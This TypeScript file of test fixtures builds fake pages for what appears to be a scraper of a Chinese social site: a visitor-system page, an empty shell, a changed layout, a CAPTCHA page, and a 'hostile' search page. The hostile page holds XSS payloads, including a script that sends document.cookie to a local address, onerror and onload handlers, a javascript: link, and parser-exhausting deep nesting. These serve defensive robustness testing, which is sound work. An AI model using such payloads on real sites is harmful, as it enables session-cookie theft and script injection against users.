/** Pages that stand where a site's own answer should. */

const page = (title: string, body: string): string =>
  `<!DOCTYPE html><html><head><meta charset="utf-8"><title>${title}</title></head><body>${body}</body></html>`;

/** sources.md 2.3: what the visitor system shows to whom it has given no cookie. */
export const VISITOR = page('Sina Visitor System', '');
export const SHELL = page('', '<div id="app"></div>');
export const NEW_LAYOUT = page('', `<main class="brand-new">${'<section>新的页面</section>'.repeat(900)}</main>`);

/** Everything that a page may do to its reader: code, depth, open ends, words that mean another state elsewhere. */
export const HOSTILE = page(
  '搜索结果',
  `<script>while (document.visibilityState === 'none') {} alert(document.cookie); fetch('http://127.0.0.1:9/' + document.cookie).catch(() => {});</script>
<img src=x onerror="alert(1)"><svg/onload=alert(2)><a href="javascript:alert(3)">点我</a><iframe srcdoc="<script>alert(4)</script>"></iframe>
<div class="card-wrap" mid="5<script>alert(5)</script>" action-type="feed_list_item"><p class="txt" node-type="feed_list_content">${'<b><i>'.repeat(2_000)}</p></div>
<p>该内容已被发布者删除 verify captcha 环境异常 共999999999999999999页</p>${'<div>'.repeat(20_000)}<table><tr><td><![CDATA[ <!-- <textarea>`,
);

export const CAPTCHA = (scene: string): string =>
  page(
    '安全验证',
    `<h1>安全验证</h1><p>系统检测到您的访问存在异常，请点击按钮完成验证（captcha，scene=${scene}）</p><form method="post" action="/captcha"><input type="hidden" name="scene" value="${scene}"><button type="submit" id="captcha-button">点击按钮进行验证</button></form>`,
  );
